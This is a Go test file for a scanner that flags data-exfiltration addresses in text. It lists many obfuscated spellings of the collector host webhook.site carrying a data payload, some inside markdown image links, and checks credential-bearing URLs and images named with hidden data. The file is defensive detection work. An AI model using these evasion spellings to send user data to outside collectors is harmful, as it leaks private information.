package content

import (
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// TestCollectorHowItIsWritten writes the host of a collector in every way in which a client still finds it.
func TestCollectorHowItIsWritten(t *testing.T) {
	const payload = "?d=a1B2c3D4e5F6g7H8i9"
	for _, address := range []string{
		"https://webhook.site/c", "https://webhook.site./c", "https://webhook.site../c", "https://WebHook.Site:443/c", "https://webhook%2esite/c", "https://webhook.site%2e/c", "https://webhook%2Esite.:443/c",
		"https://me@webhook.site/c", "https://me:pw@abc.webhook.site./c", "https:///webhook.site/c", "https://///webhook.site./c", "https://%77ebhook.site/c", "https://webhook%252esite/c",
		"https://webhook\uff0esite/c", "https://webhook\u3002site/c", "https://webhook\uff61site/c", "https://\uff57ebhook.site/c", "https://webhook\u00ad.site/c",
	} {
		require.Contains(t, detectors(scanText(t, "send it to "+address+payload)), "collector-url", address)
		require.Contains(t, detectors(scanText(t, "![a]("+address+payload+")")), "collector-url", address)
	}
	for _, address := range []string{"https://webhook.site.example.org/c", "https://mywebhook.site/c", "https://webhook.site@example.org/c", "https://example.org/%2fwebhook.site/c", "https://webhook%2fsite/c"} {
		require.NotContains(t, detectors(scanText(t, "send it to "+address+payload)), "collector-url", address)
	}
}

// TestCollectorsHaveTwoLabels: a host is known by its last two, however many stand before them.
func TestCollectorsHaveTwoLabels(t *testing.T) {
	for host := range collectors {
		require.Equal(t, 1, strings.Count(host, "."), host)
		for _, before := range []string{"", "a.", "a.b."} {
			require.True(t, collecting(before+host), before+host)
		}
		require.False(t, collecting("a"+host), host)
		require.False(t, collecting(host+".example"), host)
	}
	require.False(t, collecting("site"))
}

// TestEndings: the longer of two is found as well, whatever its case, and no part of one.
func TestEndings(t *testing.T) {
	e := newEndings("link:", "[[", "image:: ")
	for _, s := range []string{"link:", "a LINK:", "[[", "x[[", "Image:: "} {
		require.True(t, e.end(s), s)
	}
	for _, s := range []string{"", "ink:", "[", "link", "image::", "é"} {
		require.False(t, e.end(s), s)
	}
}

// TestPasswordsOfManuals: the syntax of addresses, names of variables and what programs come with give nothing away.
func TestPasswordsOfManuals(t *testing.T) {
	for _, text := range []string{
		"scheme://[user[:password]@]host[:port]/path", "postgresql://[user[:password]@][netloc][:port]", "https://oauth2:ACCESS_TOKEN@gitlab.example/g/p.git", "https://x:GITHUB_TOKEN@github.example/o/r", "amqp://u:DB_PASSWORD@h",
		"http://neo4j:neo4j@localhost:7474", "http://minioadmin:minioadmin@localhost:9000", "mysql://scott:tiger@localhost/foo",
	} {
		require.Empty(t, scanText(t, text).Findings, text)
	}
	for _, text := range []string{"https://oauth2:ACCESS2TOKEN9@gitlab.example/g/p.git", "https://x:QWERTYUIOP@h.example", "https://kim:[pass]word@h.example", "https://kim:kim1@h.example"} {
		require.NotEmpty(t, scanText(t, text).Findings, text)
	}
}

// TestPicturesThatAreNamedByDigests: hosts of code and pictures do, and one digest or number carries little.
func TestPicturesThatAreNamedByDigests(t *testing.T) {
	for _, path := range []string{
		"83319/31722733-de95bbde-b3ea-11e7-96bf-4f4e8f915588.png", "o/r/8d71b161fd145d11c40d55c9ab66ac134a303253/docs/banner-700px.png", "i/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.jpg",
	} {
		require.Empty(t, scanText(t, "![a](https://pictures.example/"+path+")").Findings, path)
	}
	for _, path := range []string{"i/8d71b161fd145d11c40d55c9ab66ac134a3032531.png", "8d71b161fd145d11c40d55c9ab66ac134a303253/9d71b161fd145d11c40d55c9ab66ac134a303253.png", "8d71b161fd145d11c40d55c9ab66ac134a303253/aGVsbG8gd29ybGQgc2VjcmV0IDEyMyBtb3JlIGFuZA1.png"} {
		require.Contains(t, detectors(scanText(t, "![a](https://pictures.example/"+path+")")), "image-exfiltration", path)
	}
}

// TestPlainAddressesCarryNothing puts addresses together at random: what is plain has nothing that an address is looked at for.
func TestPlainAddressesCarryNothing(t *testing.T) {
	r := rand.New(rand.NewPCG(7, 64))
	pieces := strings.Fields("docs example org library index name sort a b 1 12 2026 4f5a 9z8y7x6w5v4 9z8y7x6w5v4u aB3dE5fG7hJ a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2 architecture QwErTyUiOpAsDfGhJkLzXcVbNm " +
		"{conversation} $DATA INSERT_SECRET insert_data insert [x] %41 + @ . : / ? # & = ) , ; ! ' . / / ? & = = - _ ~ \u3002")
	plain := 0
	for range 200_000 {
		rest := ""
		for range 1 + r.IntN(9) {
			rest += pieces[r.IntN(len(pieces))]
		}
		if strings.HasPrefix(rest, "/") || !plainAddress(rest) {
			continue
		}
		plain++
		hostEnd := strings.IndexAny(rest, "/?#")
		if hostEnd < 0 {
			hostEnd = len(rest)
		}
		tail, query := rest[hostEnd:], ""
		if i := strings.IndexByte(tail, '?'); i >= 0 {
			query = tail[i+1:]
		}
		carried := templated(query) || opaqueIn(query, 12) || opaqueIn(tail, 40) || opaqueLabel(hostName(rest[:hostEnd])) || opaquePieces(query) || asksForData(rest)
		require.False(t, carried, rest)
	}
	require.Greater(t, plain, 10_000)
}
